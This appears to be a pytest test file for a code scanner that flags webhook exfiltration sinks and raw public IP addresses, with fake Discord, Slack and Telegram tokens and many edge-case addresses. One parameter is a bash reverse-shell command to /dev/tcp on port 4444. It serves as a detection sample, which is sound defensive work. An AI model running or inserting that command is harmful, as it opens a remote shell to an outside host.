import pytest

from tests.offline import found
from vscan.model import Severity

SINK, ADDRESS = {"exfiltration-sink": Severity.HIGH}, {"raw-ip-address": Severity.HIGH}
VARIED = "aB3dE5gH7jK9mN1pQ2sT4vW6yZ8"


def token(length: int) -> str:
    return (VARIED * 4)[:length]


def discord(text: str) -> str:
    return f"https://discord.com/api/webhooks/{'1029384756' * 2}"[:-1] + f"/{text}"


def slack(text: str) -> str:
    return f"https://hooks.slack.com/services/T{'01ABCDEF23'}/B{'45GHIJKL67'}/{text}"


def telegram(text: str) -> str:
    return f"https://api.telegram.org/bot{'1234567891'}:AA{text}/sendMessage"


@pytest.mark.parametrize(
    "url",
    [
        discord(token(68)),
        discord(token(68)).replace("discord.com", "ptb.discordapp.com"),
        discord(token(68)).replace("/api/", "/api/v10/"),
        discord(token(68)).replace("/", "\\/"),
        slack(token(24)),
        telegram(token(33)),
        f"bot = {'1234567891'}:AA{token(33)}",
    ],
)
def test_a_sink_with_its_token_is_found(url: str) -> None:
    assert found(f"send('{url}')") == SINK
    assert found(f'{{"to": "{url}"}}', "settings.json") == SINK
    assert found(f"# Title\n\n{url}", "README.md") == {}


@pytest.mark.parametrize(
    "url",
    [
        "https://discord.com/api/webhooks/${id}/${token}",
        discord("x" * 68),
        slack("X" * 24),
        telegram("x" * 33),
        "https://api.telegram.org/bot",
        f"ratio 12:AA{'x' * 10}",
        f"{'1' * 12}:AA{token(33)}",  # no bot has so long a number
    ],
)
def test_a_sink_without_a_real_token_is_not_found(url: str) -> None:
    assert found(f"send('{url}')") == {}


@pytest.mark.parametrize(
    "url",
    [
        "http://45.76.12.34/x",
        "https://45.76.12.34:8443",
        "ws://45.76.12.34",
        "http:\\/\\/45.76.12.34",
        "http://user:word@45.76.12.34:81/x",
        "http://[2606:2800:220:1:248:1893:25c8:1946]:8080/x",
        "http://759958562/x",
        "http://0x2D4C0C22/x",
    ],
)
def test_a_public_address_in_a_url_is_found_in_code_only(url: str) -> None:
    assert found(f"fetch('{url}')") == ADDRESS
    assert found(f'{{"server": "{url}"}}', "settings.json") == {}


@pytest.mark.parametrize(
    "decoy", ["https://9gag{}.com", "https://1drv.ms/{}", "https://{}.example.org", "//[{}]"]
)
def test_an_address_behind_a_thousand_ordinary_names_is_found(decoy: str) -> None:
    names = "\n".join(f'"{decoy.format(number)}",' for number in range(3000))
    assert found(f"{names} fetch('http://45.76.12.34/x')") == ADDRESS
    assert found(f"[{names}]") == {}


@pytest.mark.parametrize(
    "code",
    [
        "net.connect(4444, '45.76.12.34')",
        'http.request({ hostname: "45.76.12.34", port: 80 })',
        'exec("bash -i >& /dev/tcp/45.76.12.34/4444 0>&1")',
    ],
)
def test_a_socket_to_a_public_address_is_found(code: str) -> None:
    assert found(code) == ADDRESS
    assert found(code.replace("45.76.12.34", "10.76.12.34")) == {}


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:3000",
        "http://10.1.2.3",
        "http://192.168.1.1",
        "http://172.16.0.1",
        "http://169.254.169.254/latest/meta-data",
        "http://192.0.2.1",
        "http://198.51.100.7",
        "http://203.0.113.9",
        "http://100.100.100.200",
        "http://0.0.0.0:80",
        "http://255.255.255.255",
        "http://999.1.1.1",
        "http://224.0.0.1",
        "https://1.1.1.1/dns-query",
        "http://45.76.12.34.example.org/",
        "https://1.2.3.4.5/",
        "45.76.12.34",
        "version 45.76.12.34",
        "acme@45.76.12.34",
        "http://user:word@10.76.12.34/",
        "http://user@45.76.12.34.example.org/",
        "http://[::1]:8080/",
        "http://[fe80::1]/",
        "http://[1::2:0:0:3]/",
        "http://[2001:db8::1]/",
        "http://[3ffe:2a00:100:7031::1]",  # of an experiment that is over
        "http://2130706433/",
        "http://75995856200/",
        "http://759958562.example.org/",
    ],
)
def test_numbers_that_are_not_public_addresses_are_not_found(url: str) -> None:
    assert found(f"fetch('{url}')") == {}


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("// fetch('http://45.76.12.34/x')\nact();", "a.js"),
        ("/**\n * @example\n * isIp('http://45.76.12.34')\n */\nact();", "a.ts"),
        ("/** Connects:\n  * `http://45.76.12.34:81`. */\nexport declare const c: 1;", "a.d.ts"),
        ("t('http://[2010:836B:4179::836B:4179]', 'http://[1080::8:800:200C:417A]/f')", "v.js"),
        ("t('http://[3ffe:2a00:100:7031::1]/', 'http://[FEDC::3210]:80/i')", "v.js"),
    ],
)
def test_an_example_of_an_address_is_not_found(code: str, name: str) -> None:
    assert found(code, name) == {}


@pytest.mark.parametrize(
    "name", ["test/url.js", "lib/url.spec.ts", "a/__tests__/b.js", "spec/fixtures/c.mjs"]
)
def test_an_address_in_a_test_is_low(name: str) -> None:
    code = "equal(new URL('http://0x2D4C0C22/').hostname, '45.76.12.34')"
    assert found(code, name) == {"raw-ip-address": Severity.LOW}
    assert found(code, "src/testing.js") == ADDRESS
